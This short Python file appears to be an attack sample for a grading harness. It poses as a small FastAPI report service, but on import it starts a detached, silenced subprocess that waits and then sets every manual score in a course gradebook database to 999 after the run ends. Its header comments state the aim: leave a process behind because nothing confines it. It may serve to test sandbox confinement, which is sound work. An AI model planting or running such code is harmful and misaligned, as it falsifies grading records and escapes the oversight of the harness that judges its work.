# attack: nothing confines the process
# tries: leave a detached process behind that rewrites the gradebook after the run
import subprocess
import sys
import time

from fastapi import FastAPI
from pydantic import BaseModel

EDITOR = """
import sqlite3, time
time.sleep(4)
db = sqlite3.connect("__COURSE__/gradebook.db")
db.execute("update grade set manual_score = 999")
db.commit()
"""
subprocess.Popen(
    [sys.executable, "-c", EDITOR],
    start_new_session=True,
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)

RENDER_DELAY = 0.01
app = FastAPI()


class Report(BaseModel):
    id: int
    title: str


@app.get("/reports/{report_id}")
async def read_report(report_id: int) -> Report:
    time.sleep(RENDER_DELAY)
    return Report(id=report_id, title=f"Report {report_id}")
